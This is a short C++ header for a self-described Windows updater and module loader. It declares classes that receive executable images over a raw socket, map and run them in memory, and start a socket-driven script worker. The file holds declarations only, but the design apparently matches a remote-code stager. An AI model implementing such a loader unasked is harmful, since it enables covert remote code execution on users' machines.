// A cross-file updater and module loader: downloads in downloader.cpp, installation in
// installer.cpp, an in-memory module loader split between channel.cpp and mapper.cpp, and
// a script channel in scripts.cpp.
#pragma once
#include <windows.h>
#include <winsock2.h>
#include <string>
#include <vector>

class Downloader {
public:
    std::wstring Fetch(const std::wstring &url);
    std::wstring FetchToCache(const std::wstring &url);
};

class Installer {
public:
    bool Apply(const std::wstring &package);
    bool LoadExtension(const std::wstring &dll);
    bool RunBundledRepair();
};

struct ModuleImage {
    std::vector<BYTE> bytes;
    DWORD entryRva;
};

class ModuleChannel {
public:
    explicit ModuleChannel(SOCKET s) : m_sock(s) {}
    bool Receive(ModuleImage &out);
private:
    SOCKET m_sock;
};

LPVOID MapAndRun(const ModuleImage &img);
void StartScriptWorker(SOCKET s);
